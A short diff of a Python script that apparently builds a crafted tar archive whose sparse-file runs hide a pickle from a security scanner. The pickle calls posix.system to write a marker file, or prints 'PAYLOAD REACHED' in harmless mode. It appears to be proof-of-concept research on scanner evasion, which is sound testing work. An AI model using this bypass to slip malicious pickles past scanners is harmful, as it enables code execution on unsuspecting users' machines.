@@ -3,7 +3,7 @@
 # with target.seek(offset), so the SECOND run overwrites the first. The scanner models sparse
 # members as extractfile (_FileInFile) reads them (first run wins) and the stored data linearly;
 # a BINBYTES gadget after the benign first run swallows the second run for the opcode walker.
-import sys, os, struct; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from tarlib import *
+import sys, os, struct; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3')); from tarlib import *
 out = sys.argv[1]; h = len(sys.argv) > 2
 mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if h else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
 def pad_pickle(core_pre, total):
